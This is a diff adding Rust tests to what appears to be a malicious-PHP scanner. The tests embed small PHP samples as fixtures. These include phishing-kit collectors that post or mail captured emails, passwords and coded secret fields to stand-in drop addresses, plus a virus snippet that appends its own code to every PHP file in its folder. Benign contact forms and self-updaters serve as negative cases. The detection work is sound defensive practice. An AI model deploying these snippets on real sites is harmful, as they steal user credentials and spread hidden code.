@@ -797,3 +797,56 @@ fn the_file_name_used_as_text_is_quiet() {
     let src = "<?php $slug = basename(__FILE__, '.php'); $dir = dirname(__FILE__); $cb($slug); echo $dir;";
     assert!(found(src).is_empty());
 }
+
+#[test]
+fn a_collector_of_tersely_labelled_or_coded_fields_is_found() {
+    // A secret field under a label of two letters, mailed.
+    let terse = "<?php $m = \"ID: \" . $_POST['email'] . \"\\n\"; $m .= \"Pd: \" . $_POST['password'] . \"\\n\";\n\
+                 mail('drop@example.invalid', 'x', $m); header('Location: https://example.com');";
+    assert!(found(terse).contains(&Why::CredentialCollector), "{:?}", found(terse));
+    // Coded field names, the labels in French, posted with curl only.
+    let coded = "<?php $m = \"Identifiant : \" . $_POST['AK12'] . \"\\n\"; $m .= \"Code Secret : \" . $_POST['AK13'];\n\
+                 $c = curl_init('https://example.invalid/x'); curl_setopt($c, CURLOPT_POSTFIELDS, $m); curl_exec($c);";
+    assert!(found(coded).contains(&Why::CredentialCollector), "{:?}", found(coded));
+    // Field names numbered as a page builder names them.
+    let numbered = "<?php $m = \"Online ID : \" . $_POST['formtext1'] . \"\\n\"; $m .= \"PassCode : \" . $_POST['formtext2'];\n\
+                    mail('drop@example.invalid', 'x', $m);";
+    assert!(found(numbered).contains(&Why::CredentialCollector), "{:?}", found(numbered));
+    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/collector_coded_fields_to_chat.php");
+    assert!(found(fixture).contains(&Why::CredentialCollector), "{:?}", found(fixture));
+}
+
+#[test]
+fn a_contact_form_mailing_coded_or_ordinary_fields_is_not_a_collector() {
+    // Coded fields with labels that name no secret, mailed to the site's owner.
+    let contact = "<?php $m = \"Name: \" . $_POST['f1'] . \"\\n\"; $m .= \"Phone: \" . $_POST['f2'] . \"\\n\";\n\
+                   $m .= \"Topic 3: \" . $_POST['q12']; mail('owner@example.com', 'Contact', $m);";
+    assert!(!found(contact).contains(&Why::CredentialCollector), "{:?}", found(contact));
+    // A short label before a field that is not a secret.
+    let order =
+        "<?php $m = \"Qty: \" . $_POST['qty'] . \" Ref: \" . $_POST['ref']; mail('shop@example.com', 'Order', $m);";
+    assert!(!found(order).contains(&Why::CredentialCollector), "{:?}", found(order));
+}
+
+#[test]
+fn a_script_that_writes_its_own_code_into_the_scripts_of_its_folder_is_a_virus() {
+    let appends = "<?php $h = fopen(__FILE__, 'r'); $c = fread($h, filesize(__FILE__)); $d = opendir('.');\n\
+                   while (($f = readdir($d)) !== false) { if (substr($f, -4) == '.php') { $g = fopen($f, 'a'); fwrite($g, $c); } }";
+    assert_eq!(found(appends), [Why::InjectsHiddenCode]);
+    let includes = "<?php $d = opendir('.'); while ($f = readdir($d)) { $g = fopen($f, 'a');\n\
+                    fputs($g, '<?php include(\"'); fputs($g, __FILE__); fputs($g, '\"); ?>'); }";
+    assert_eq!(found(includes), [Why::InjectsHiddenCode]);
+    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/virus_appends_itself.php");
+    assert_eq!(found(fixture), [Why::InjectsHiddenCode]);
+}
+
+#[test]
+fn a_self_updater_or_a_log_naming_its_script_is_not_a_virus() {
+    // It rewrites its own file with what it read from its own file.
+    let update = "<?php $c = file_get_contents(__FILE__); $c = str_replace('v1', 'v2', $c); $h = fopen(__FILE__, 'w');\n\
+                  fwrite($h, $c); foreach (glob('cache/*') as $f) { unlink($f); }";
+    assert!(found(update).is_empty(), "{:?}", found(update));
+    // It logs its own path while it walks a folder.
+    let log = "<?php $me = __FILE__; $l = fopen('run.log', 'a'); foreach (scandir('.') as $f) { fwrite($l, \"$me saw $f\\n\"); }";
+    assert!(found(log).is_empty(), "{:?}", found(log));
+}
